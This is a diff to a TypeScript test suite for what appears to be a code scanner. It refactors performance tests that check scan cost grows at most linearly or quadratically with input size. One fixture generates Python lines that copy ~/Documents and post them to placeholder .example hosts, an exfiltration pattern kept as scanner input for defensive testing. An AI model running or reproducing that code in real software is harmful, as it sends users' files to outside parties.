@@ -97,12 +97,6 @@ describe('a file that would cost a scan too much', () => {
     },
   );
 
-  it('ends before long where a powerful value is each operand of a long expression', async () => {
-    const before = process.threadCpuUsage();
-    await scanOf('a.ts', `const x = ${'process && '.repeat(1_200)}process.env;\nx();\n`);
-    expect(process.threadCpuUsage(before).user).toBeLessThan(2_500_000);
-  });
-
   it.each([
     ['a.ts', `export const x = ${'1 +\n'.repeat(1_500)}1;\n`],
     // A walk for each default would double with each level.
@@ -195,12 +189,30 @@ describe('a file of four times the length', () => {
         `import os, requests, shutil\n${rows(count / 4, (at) => `shutil.copytree(os.path.expanduser("~/Documents"), "/tmp/x")\nrequests.post("https://a${at}.example/", data=open("/tmp/x").read())\n`)}`,
     ],
   ])('is about four times the work: %s', { timeout: 60_000 }, async (_, path, text) => {
-    const workerData = [400, 1_600].map((count) => [path, text(count)]);
-    const [[few = 0, many = 0] = []] = await once(
-      new Worker(new URL('count-work.ts', import.meta.url), { workerData }),
-      'message',
-    );
+    const { few, many } = await workOf(path, text);
     expect(many / few).toBeLessThan(5);
     expect(few).toBeGreaterThan(400);
   });
+
+  it('is at most the square of the work: a powerful value as each operand of an expression', {
+    timeout: 60_000,
+  }, async () => {
+    const { few, many } = await workOf(
+      'a.ts',
+      (count) => `const x = ${'process && '.repeat(count)}process.env;\nx();\n`,
+    );
+    expect(many / few).toBeLessThan(16);
+  });
 });
+
+async function workOf(
+  path: string,
+  text: (count: number) => string,
+): Promise<{ readonly few: number; readonly many: number }> {
+  const workerData = [400, 1_600].map((count) => [path, text(count)]);
+  const [[few = 0, many = 0] = []] = await once(
+    new Worker(new URL('count-work.ts', import.meta.url), { workerData }),
+    'message',
+  );
+  return { few, many };
+}
